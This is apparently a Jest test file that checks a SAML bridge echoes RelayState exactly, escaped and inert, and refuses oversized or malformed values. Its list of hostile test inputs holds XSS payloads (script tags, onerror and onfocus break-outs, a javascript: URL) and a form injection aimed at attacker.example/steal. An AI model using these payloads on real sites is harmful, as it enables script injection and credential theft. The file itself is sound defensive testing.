import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { RELAY_STATE_MAX_BYTES } from '../../src/core/login/steps/check-relay-state.js';
import { alice, readAutoPost, signInAtProvider, startHarness, stopAtAcs, type Harness } from '../support/login-harness.js';
import { authnRequestXml, postEncode, redirectEncode, ssoUrl, startLoginAtSp } from '../support/refusals.js';
import { expectSsoRefusal, getSso } from '../support/corpus.js';
import { UserAgent, type Page } from '../support/user-agent.js';

/**
 * RelayState is the SP's opaque value (SAML bindings §3.4.3): the bridge must hand it back
 * exactly as received, HTML-escaped in the auto-post form and never executed. Each case runs a
 * whole login with a hostile value and reads the value back from the page the bridge answers
 * with; test/security/auto-post-browser.test.ts checks the same in a real browser, under CSP.
 */

/** The auto-post page carries exactly one form, the two fields, one nonce'd script, and nothing else active. */
function expectInertPage(page: Page): void {
  const $ = page.$;
  expect($('form')).toHaveLength(1);
  expect($('input').toArray().map((el) => [$(el).attr('type'), $(el).attr('name')])).toEqual([
    ['hidden', 'SAMLResponse'],
    ['hidden', 'RelayState'],
  ]);
  const scripts = $('script').toArray();
  expect(scripts).toHaveLength(1);
  expect($(scripts[0]).text()).toBe("document.getElementById('saml-post').submit();");
  const csp = page.headers.get('content-security-policy')!;
  expect(csp).toContain(`script-src 'nonce-${$(scripts[0]).attr('nonce')}'`);
  const handlers = $('*')
    .toArray()
    .flatMap((el) => Object.keys((el as unknown as { attribs: Record<string, string> }).attribs ?? {}))
    .filter((name) => /^on/i.test(name));
  expect(handlers).toEqual([]);
  expect($('img, iframe, object, embed, base, meta[http-equiv], link, a, svg, math')).toHaveLength(0);
}

describe('RelayState: echoed byte for byte, always escaped', () => {
  let harness: Harness;
  beforeAll(async () => {
    harness = await startHarness();
  });
  afterAll(async () => harness.close());

  /** A whole login started by the SP with `relayState` (HTTP-Redirect); returns the bridge's page. */
  const loginWith = async (relayState: string): Promise<Page> => {
    const agent = new UserAgent({ stopAt: stopAtAcs });
    const { loginPage, sp } = await startLoginAtSp(harness, agent, relayState);
    const page = await signInAtProvider(agent, loginPage, alice);
    expect(page.status).toBe(200);
    const post = readAutoPost(page);
    const { profile } = await sp.validatePostResponseAsync({ SAMLResponse: post.SAMLResponse!, RelayState: post.RelayState! });
    expect(profile?.nameID).toBe(alice.email);
    expectInertPage(page);
    return page;
  };

  /** Sends the SSO URL with a query string written by hand (for bytes no encoder would produce). */
  const loginWithRawQuery = async (rawRelayState: string): Promise<Page> => {
    const agent = new UserAgent({ stopAt: stopAtAcs });
    const url = `${ssoUrl(harness).href}?SAMLRequest=${encodeURIComponent(redirectEncode(authnRequestXml()))}&RelayState=${rawRelayState}`;
    const loginPage = await agent.get(url);
    expect(loginPage.url.startsWith(harness.providerUrl)).toBe(true);
    const page = await signInAtProvider(agent, loginPage, alice);
    expect(page.status).toBe(200);
    expectInertPage(page);
    return page;
  };

  /** Only the SSO request, with a RelayState written by hand into the query string. */
  const rawSso = (rawRelayState: string): Promise<Page> =>
    new UserAgent({ stopAt: stopAtAcs }).get(
      `${ssoUrl(harness).href}?SAMLRequest=${encodeURIComponent(redirectEncode(authnRequestXml()))}&RelayState=${rawRelayState}`,
      { stopAt: () => false },
    );

  /** A whole login whose AuthnRequest and RelayState arrive with the HTTP-POST binding. */
  const loginWithPost = async (relayState: string): Promise<Page> => {
    const agent = new UserAgent({ stopAt: stopAtAcs });
    const loginPage = await agent.post(
      ssoUrl(harness),
      { SAMLRequest: postEncode(authnRequestXml()), RelayState: relayState },
      { initiator: 'https://auth.atlassian.test/login' },
    );
    expect(loginPage.url.startsWith(harness.providerUrl)).toBe(true);
    const page = await signInAtProvider(agent, loginPage, alice);
    expect(page.status).toBe(200);
    expectInertPage(page);
    return page;
  };

  const hostile: [string, string][] = [
    ['a script element', '<script>alert(document.domain)</script>'],
    ['an attribute break-out with double quotes', '"><img src=x onerror=alert(1)>'],
    ['an attribute break-out with single quotes', "' autofocus onfocus='alert(1)"],
    ['backticks and a template literal', '`${alert(1)}`'],
    ['a form closed and a new one opened toward another site', '</form><form id="saml-post" action="https://attacker.example/steal"><input name="x">'],
    ['a javascript: URL', 'javascript:alert(1)//https://start.atlassian.com'],
    ['text that is already HTML-escaped (must not be decoded)', '&lt;b&gt;&amp;&quot;&#39;&#x3C;'],
    ['an HTML comment and CDATA end', '<!-- --><![CDATA[ ]]> -->'],
    ['a URL with query, fragment and form-encoding look-alikes', 'https://start.atlassian.com/?a=1&b=%2F+c#frag%20x'],
    ['non-ASCII text: accents, CJK, emoji, right-to-left override', 'Ångström 日本語 😀 \u202Eevil\u202C'],
  ];

  for (const [name, relayState] of hostile) {
    it(`echoes ${name} exactly, escaped`, async () => {
      const page = await loginWith(relayState);
      expect(readAutoPost(page).RelayState).toBe(relayState);
      if (/[<>"'`&]/.test(relayState)) expect(page.body).not.toContain(relayState);
    });
  }

  // What Atlassian sends (PLATFORM.md; Atlassian's and Microsoft's setup guides): a URL.
  const atlassianRelayStates: [string, string][] = [
    ['the IdP-initiated default', 'https://start.atlassian.com'],
    ['a site URL', 'https://example-company.atlassian.net'],
    ['a deep link with a query', 'https://example-company.atlassian.net/jira/software/c/projects/ABC/boards/12?selectedIssue=ABC-1234&quickFilter=56'],
    ['an Atlassian login URL carrying its continuation', `https://id.atlassian.com/login?continue=${encodeURIComponent(`https://example-company.atlassian.net/wiki/spaces/ENG/pages/123456789/${'Release+notes+'.repeat(40)}?focusedCommentId=987654321`)}&application=confluence`],
  ];
  for (const [name, relayState] of atlassianRelayStates) {
    it(`carries what Atlassian sends: ${name} (${new TextEncoder().encode(relayState).length} bytes)`, async () => {
      const page = await loginWith(relayState);
      expect(readAutoPost(page).RelayState).toBe(relayState);
    });
  }

  it('carries more than the 80 bytes SAML bindings §3.4.3 allows (service providers send more)', async () => {
    const relayState = `https://start.atlassian.com/${'p'.repeat(100)}`;
    expect(relayState.length).toBeGreaterThan(80);
    expect(readAutoPost(await loginWith(relayState)).RelayState).toBe(relayState);
  });

  it(`echoes a RelayState of exactly ${RELAY_STATE_MAX_BYTES} bytes, not truncated (HTTP-Redirect)`, async () => {
    const relayState = `https://start.atlassian.com/?q=${'x'.repeat(RELAY_STATE_MAX_BYTES)}`.slice(0, RELAY_STATE_MAX_BYTES);
    const page = await loginWith(relayState);
    expect(readAutoPost(page).RelayState).toBe(relayState);
  });

  it(`echoes ${RELAY_STATE_MAX_BYTES} bytes of markup exactly, escaped (HTTP-POST)`, async () => {
    const relayState = '<"\'&>`'.repeat(RELAY_STATE_MAX_BYTES).slice(0, RELAY_STATE_MAX_BYTES);
    const page = await loginWithPost(relayState);
    expect(readAutoPost(page).RelayState).toBe(relayState);
    expect(page.body).not.toContain('<"');
  });

  it('refuses a RelayState one byte over the limit (never truncates it)', async () => {
    await expectSsoRefusal(
      harness,
      () => getSso(harness, { SAMLRequest: redirectEncode(authnRequestXml()), RelayState: 'r'.repeat(RELAY_STATE_MAX_BYTES) + '<' }),
      { status: 400, code: 'relay_state_invalid' },
    );
  });

  it(`counts UTF-8 bytes, not characters: ${RELAY_STATE_MAX_BYTES} bytes of CJK text pass, one more character is refused`, async () => {
    const relayState = '日'.repeat(Math.floor(RELAY_STATE_MAX_BYTES / 3)) + 'x'.repeat(RELAY_STATE_MAX_BYTES % 3);
    expect(new TextEncoder().encode(relayState).length).toBe(RELAY_STATE_MAX_BYTES);
    expect(readAutoPost(await loginWith(relayState)).RelayState).toBe(relayState);
    // Far fewer characters than the cap, but three bytes each: refused, and nothing stored.
    await expectSsoRefusal(harness, () => getSso(harness, { SAMLRequest: redirectEncode(authnRequestXml()), RelayState: `${relayState}日` }), {
      status: 400,
      code: 'relay_state_invalid',
    });
  });

  it('keeps the documented cap: 4,096 bytes pass, 4,097 are refused', async () => {
    expect(RELAY_STATE_MAX_BYTES).toBe(4096);
    await expectSsoRefusal(harness, () => getSso(harness, { SAMLRequest: redirectEncode(authnRequestXml()), RelayState: `https://start.atlassian.com/${'r'.repeat(4097 - 28)}` }), {
      status: 400,
      code: 'relay_state_invalid',
    });
  });

  it('echoes an empty RelayState as an empty field', async () => {
    const page = await loginWithRawQuery('');
    expect(readAutoPost(page).RelayState).toBe('');
  });

  it('sends no RelayState field when the SP sent none', async () => {
    const agent = new UserAgent({ stopAt: stopAtAcs });
    const loginPage = await agent.get(ssoUrl(harness, { SAMLRequest: redirectEncode(authnRequestXml()) }));
    const page = await signInAtProvider(agent, loginPage, alice);
    expect(page.status).toBe(200);
    expect(readAutoPost(page).RelayState).toBeUndefined();
    expect(page.$('input[name="RelayState"]')).toHaveLength(0);
  });

  it('refuses non-UTF-8 bytes, which no form could echo byte for byte', async () => {
    // %FF%FE is no UTF-8: the HTTP layer decodes it to U+FFFD before the bridge sees it, and an
    // HTML form could not post the raw bytes back; refusing beats altering the value.
    await expectSsoRefusal(harness, () => rawSso('%FF%FE%3Cb%3E'), { status: 400, code: 'relay_state_invalid' });
  });

  it('refuses a line break, which a browser would post back as CRLF', async () => {
    await expectSsoRefusal(harness, () => rawSso('a%0Ab'), { status: 400, code: 'relay_state_invalid' });
  });

  it('echoes a hostile RelayState that arrived with the HTTP-POST binding', async () => {
    const relayState = '"><script>alert(1)</script>&amp;';
    const page = await loginWithPost(relayState);
    expect(readAutoPost(page).RelayState).toBe(relayState);
    expect(page.body).not.toContain('<script>alert');
  });
});
